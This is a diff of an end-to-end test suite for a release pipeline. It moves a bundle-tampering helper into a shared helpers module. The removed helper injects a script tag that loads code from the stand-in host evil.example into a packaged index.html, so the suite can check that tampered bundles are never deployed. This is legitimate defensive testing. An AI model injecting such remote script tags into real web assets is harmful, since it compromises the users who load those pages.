@@ -3,17 +3,16 @@ driven the way a CI system or a release manager drives it: through the REST API.
 
 from __future__ import annotations
 
-import io
 import json
 import subprocess
 import sys
-import tarfile
 from pathlib import Path
 from urllib.parse import urlparse
 
 import pytest
 
 from releasetrain.client import AirflowAPIError
+from tests.helpers import tamper_bundle
 
 pytestmark = pytest.mark.e2e
 
@@ -137,25 +136,12 @@ def test_requested_by_is_an_author_too(author, approver, admin, fleet):
     assert "2.2.0" not in [h["version"] for h in fleet("prod")["history"]]
 
 
-def _tamper(bundle_path: Path) -> None:
-    members = []
-    with tarfile.open(bundle_path, "r:gz") as tar:
-        for member in tar:
-            members.append((member, tar.extractfile(member).read()))
-    with tarfile.open(bundle_path, "w:gz") as tar:
-        for member, data in members:
-            if member.name.endswith("index.html"):
-                data += b"<script src='https://evil.example/x.js'></script>"
-                member.size = len(data)
-            tar.addfile(member, io.BytesIO(data))
-
-
 def test_bundle_altered_after_packaging_is_never_deployed(author, approver, fleet):
     dag = "release_tampered"
     run_id = trigger(author, "1.0.0", dag_id=dag)
     author.wait_for_approval(dag, run_id, "tamper-dev.approve")
     location = author.xcom(dag, run_id, "package")["location"]
-    _tamper(Path(urlparse(location).path) / "bundle.tar.gz")
+    tamper_bundle(Path(urlparse(location).path) / "bundle.tar.gz")
     assert approver.answer(dag, run_id, "tamper-dev.approve", "Approve") == "success"
     run = author.wait_for_run(dag, run_id)
     states = author.task_states(dag, run_id)
